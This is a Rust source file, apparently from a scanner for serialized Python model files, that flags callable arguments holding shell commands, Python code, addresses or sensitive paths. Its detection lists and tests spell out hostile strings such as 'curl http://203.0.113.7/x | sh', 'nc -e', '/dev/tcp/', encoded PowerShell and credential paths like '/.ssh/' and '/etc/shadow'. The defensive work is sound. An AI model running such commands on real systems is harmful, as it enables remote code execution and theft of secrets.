//! What the arguments of an unknown callable say about it: commands, code, addresses, paths.

use super::machine::Machine;
use super::value::{Kind, Value};
use crate::python::source;

/// Something in an argument that data of a model seldom hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Suspicion {
    /// A path outside the model's folder.
    Path,
    /// An address.
    Address,
    /// A shell command.
    Command,
    /// Python source.
    Code,
}

impl Suspicion {
    /// The words used in messages.
    pub(super) fn as_str(self) -> &'static str {
        match self {
            Self::Path => "a file path",
            Self::Address => "a network address",
            Self::Command => "a shell command",
            Self::Code => "Python code",
        }
    }
}

/// The worst suspicion among the strings reachable from `value`.
pub(super) fn of(machine: &Machine<'_>, value: Value) -> Option<Suspicion> {
    let mut worst = None;
    let mut open = vec![(value, 0u32)];
    let mut seen = 0usize;
    while let Some((value, depth)) = open.pop() {
        seen = seen.saturating_add(1);
        if seen > VALUES {
            break;
        }
        if let Some(raw) = machine.store.raw(value) {
            let head = raw.get(..LONGEST).unwrap_or(raw);
            worst = worst.max(of_text(&String::from_utf8_lossy(head)));
        } else if depth < DEPTH
            && let Some(node) = machine.store.get(value)
        {
            let items = machine.store.items(node, ITEMS);
            if let [host, Value::Int(port)] = items.as_slice()
                && node.kind == Kind::Tuple
                && (1..=0xffff).contains(port)
                && machine.store.text(*host).is_some_and(|host| is_host(&host))
            {
                worst = worst.max(Some(Suspicion::Address));
            }
            open.extend(items.into_iter().map(|item| (item, depth.saturating_add(1))));
        }
    }
    worst
}

/// Whether one of the `arguments` themselves is an address, or a file by which whoever writes it takes over an account.
pub(super) fn names_target(machine: &Machine<'_>, arguments: Value) -> bool {
    let Some(node) = machine.store.get(arguments) else { return false };
    let items = machine.store.items(node, ITEMS);
    let is_endpoint = |pair: &[Value]| {
        let [host, Value::Int(1..=0xffff)] = pair else { return false };
        // A name with a dot may be a file, four numbers are a machine.
        machine.store.text(*host).is_some_and(|host| host.parse::<std::net::IpAddr>().is_ok())
    };
    let nested =
        items.iter().filter_map(|&item| machine.store.get(item)).filter(|node| node.kind == Kind::Tuple);
    if items.windows(2).any(is_endpoint)
        || nested.into_iter().any(|node| machine.store.items(node, 2).windows(2).any(is_endpoint))
    {
        return true;
    }
    items.into_iter().any(|item| {
        let Some(text) = machine.store.text(item) else { return false };
        let is_one_word = text.len() < 2048 && !text.contains(char::is_whitespace);
        let is_address = ADDRESSES.iter().any(|mark| text.starts_with(mark));
        is_one_word && (is_address || TAKEN_OVER.iter().any(|mark| text.contains(mark)))
    })
}

/// Parts of paths that logging in, starting a shell or the scheduler reads.
static TAKEN_OVER: &[&str] = &[
    "/.ssh/",
    "/.bashrc",
    "/.bash_profile",
    "/.profile",
    "/.zshrc",
    "/.aws/",
    "/.kube/",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/cron",
    "/etc/sudoers",
    "/etc/ld.so.preload",
    "/etc/profile",
    "/etc/systemd/",
    "/var/spool/cron",
];

/// Whether a string among `arguments` is Python source that would do harm if it were run. Counts what it reads.
pub(super) fn is_harmful_source(machine: &mut Machine<'_>, arguments: Value) -> bool {
    let mut open = vec![(arguments, 0u32)];
    let mut seen = 0usize;
    while let Some((value, depth)) = open.pop() {
        seen = seen.saturating_add(1);
        if seen > VALUES {
            break;
        }
        if let Some(text) = machine.store.text(value) {
            // Only source that calls or imports something can do harm.
            let could_harm = text.len() <= LONGEST && (text.contains('(') || text.contains("import "));
            if could_harm {
                let is_harmful = source::is_harmful(&text);
                machine.judge.sources_read = machine.judge.sources_read.saturating_add(1);
                if is_harmful {
                    return true;
                }
            }
        } else if depth < DEPTH
            && let Some(node) = machine.store.get(value)
        {
            let items = machine.store.items(node, ITEMS);
            open.extend(items.into_iter().map(|item| (item, depth.saturating_add(1))));
        }
    }
    false
}

/// What a command among `given`, in one string or in a list of words, downloads with, as a verb phrase.
pub(super) fn downloads(machine: &Machine<'_>, given: impl Iterator<Item = Value>) -> Option<&'static str> {
    let mut open: Vec<(Value, u32)> = given.map(|value| (value, 0)).collect();
    open.reverse();
    let mut command = String::new();
    let mut seen = 0usize;
    while let Some((value, depth)) = open.pop() {
        seen = seen.saturating_add(1);
        if seen > VALUES {
            break;
        }
        if let Some(raw) = machine.store.raw(value) {
            command.push_str(&String::from_utf8_lossy(raw.get(..LONGEST).unwrap_or(raw)));
            command.push(' ');
        } else if depth < DEPTH
            && let Some(node) = machine.store.get(value)
        {
            let items = machine.store.items(node, ITEMS);
            open.extend(items.into_iter().rev().map(|item| (item, depth.saturating_add(1))));
        }
    }
    download_in(&command)
}

/// What `command` downloads with, as a verb phrase.
fn download_in(command: &str) -> Option<&'static str> {
    let lower = command.to_lowercase();
    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    let is_remote = || has(&["://", "git+", "--index-url", "-i http", "git@"]);
    let words: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || "|&;()<>$`'\",{}".contains(c))
        .filter(|word| !word.is_empty())
        .map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe"))
        .collect();
    words.iter().enumerate().find_map(|(at, word)| {
        let next = words.get(at.saturating_add(1)..).unwrap_or_default();
        let says = |wanted: &[&str]| next.iter().take(8).any(|word| wanted.contains(word));
        match *word {
            "curl" if !next.is_empty() => Some("runs `curl`, which downloads what the command names"),
            "wget" if !next.is_empty() => Some("runs `wget`, which downloads what the command names"),
            "aria2c" | "axel" | "lwp-download" if is_remote() => {
                Some("runs a download manager, which downloads what the command names")
            }
            "tftp" | "scp" | "sftp" if !next.is_empty() => Some("copies files from another machine"),
            "powershell" | "pwsh"
                if is_remote()
                    || has(&["downloadstring", "downloadfile", "downloaddata", "invoke-webrequest"])
                    || has(&["invoke-restmethod", "webclient", "start-bitstransfer"])
                    || says(&["iwr", "irm", "-enc", "-e", "-ec", "-encodedcommand"]) =>
            {
                Some("runs PowerShell with a command that downloads, or that hides what it does")
            }
            "certutil" if is_remote() || has(&["urlcache", "verifyctl"]) => {
                Some("runs `certutil`, which downloads what the command names")
            }
            "bitsadmin" if is_remote() || has(&["/transfer", "/addfile"]) => {
                Some("runs `bitsadmin`, which downloads what the command names")
            }
            "mshta" | "regsvr32" | "msiexec" if is_remote() => Some("runs code from an address"),
            "pip" | "pip3" | "uv" | "pipx" | "easy_install"
                if is_remote() && (*word == "easy_install" || says(&["install"])) =>
            {
                Some("installs a package from an address, whose build script runs")
            }
            "npm" | "npx" | "gem" | "cargo" | "go"
                if is_remote() && says(&["install", "i", "add", "run"]) =>
            {
                Some("installs a package from an address")
            }
            "git" | "hg" | "svn" if says(&["clone", "checkout", "pull", "fetch"]) && is_remote() => {
                Some("fetches a repository from an address")
            }
            "git" | "hg" if next.first() == Some(&"clone") => Some("clones a repository"),
            _ => None,
        }
    })
}

/// Values looked at for one call.
const VALUES: usize = 64;
/// Items looked at in one container.
const ITEMS: usize = 16;
/// Nesting looked at.
const DEPTH: u32 = 4;
/// Bytes looked at in one string.
const LONGEST: usize = 4096;

/// What one string looks like.
pub(super) fn of_text(text: &str) -> Option<Suspicion> {
    if text.len() < 2 {
        return None;
    }
    if CODE.iter().any(|mark| text.contains(mark)) {
        return Some(Suspicion::Code);
    }
    if COMMANDS.iter().any(|mark| text.contains(mark)) || is_bare_command(text) {
        return Some(Suspicion::Command);
    }
    if ADDRESSES.iter().any(|mark| text.contains(mark)) {
        return Some(Suspicion::Address);
    }
    let is_path = text.len() < 300
        && (PATHS.iter().any(|mark| text.starts_with(mark)) || text.contains("../") || text.contains("..\\"));
    is_path.then_some(Suspicion::Path)
}

/// Text that only Python source holds.
static CODE: &[&str] = &[
    "__import__(",
    "import os",
    "import subprocess",
    "import socket",
    "import sys;",
    "os.system",
    "os.popen",
    "subprocess.",
    "socket.socket",
    "exec(",
    "eval(",
    "__subclasses__",
    "__globals__",
    "builtins__",
];

/// Text that only commands hold.
static COMMANDS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "sh -c",
    "bash -i",
    "bash -c",
    "cmd.exe",
    "cmd /c",
    "powershell",
    "curl ",
    "wget ",
    "certutil -",
    "bitsadmin /",
    "Invoke-WebRequest",
    "DownloadString(",
    "rm -rf",
    "chmod +x",
    "nc -e",
    "ncat ",
    "mkfifo ",
    "/dev/tcp/",
    "| sh",
    "|sh",
    "| bash",
    "python -c",
    "python3 -c",
    "base64 -d",
    ">/dev/null",
    "> /tmp/",
    "crontab ",
];

static ADDRESSES: &[&str] =
    &["http://", "https://", "ftp://", "file://", "ldap://", "smb://", "ws://", "wss://"];

static PATHS: &[&str] =
    &["/etc/", "/tmp/", "/root/", "/home/", "/var/", "/proc/", "/dev/", "/usr/", "~/", "C:\\", "\\\\"];

/// A whole string that is one well-known command, with at most a few words behind it.
fn is_bare_command(text: &str) -> bool {
    let mut words = text.split_whitespace();
    let first = words.next().unwrap_or_default();
    let rest = words.count();
    match first {
        "id" | "whoami" | "uname" | "hostname" | "ifconfig" | "ipconfig" | "calc" | "calc.exe" => rest <= 2,
        "ls" | "cat" | "touch" | "rm" | "cp" | "mv" | "ping" | "nslookup" | "dig" | "kill" | "sh"
        | "bash" | "echo" | "printenv" | "chmod" | "chown" | "sudo" => (1..=6).contains(&rest),
        _ => false,
    }
}

fn is_host(text: &str) -> bool {
    text == "localhost"
        || (text.contains('.')
            && text.len() < 254
            && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-')))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_code_addresses_and_paths_are_told_apart() {
        assert_eq!(of_text("curl x | sh"), Some(Suspicion::Command));
        assert_eq!(of_text("id"), Some(Suspicion::Command));
        assert_eq!(of_text("import os; os.listdir()"), Some(Suspicion::Code));
        assert_eq!(of_text("https://example.com/a"), Some(Suspicion::Address));
        assert_eq!(of_text("/etc/passwd"), Some(Suspicion::Path));
    }

    #[test]
    fn commands_that_download_are_told_from_other_ones() {
        for command in [
            "curl http://203.0.113.7/x | sh",
            "/usr/bin/wget -qO- 203.0.113.7",
            "sh -c 'wget x'",
            "powershell.exe -c iwr 203.0.113.7",
            "powershell -enc SQBFAFgA",
            "C:\\Windows\\System32\\certutil.exe -urlcache -f http://x y",
            "bitsadmin /transfer job http://x y",
            "python -m pip install git+https://example.org/x",
            "pip install http://203.0.113.7/x.tar.gz",
            "git clone https://example.org/x",
        ] {
            assert!(download_in(command).is_some(), "{command}");
        }
        for command in
            ["ls -l", "curl", "pip install numpy", "git status", "powershell -v", "curly x", "certutil -dump"]
        {
            assert_eq!(download_in(command), None, "{command}");
        }
    }

    #[test]
    fn hyper_parameters_are_not_suspicious() {
        for text in ["gini", "idf", "l2", "echo", "layer.0.weight", "gpt2", "a/b", "identity"] {
            assert_eq!(of_text(text), None, "{text}");
        }
    }
}
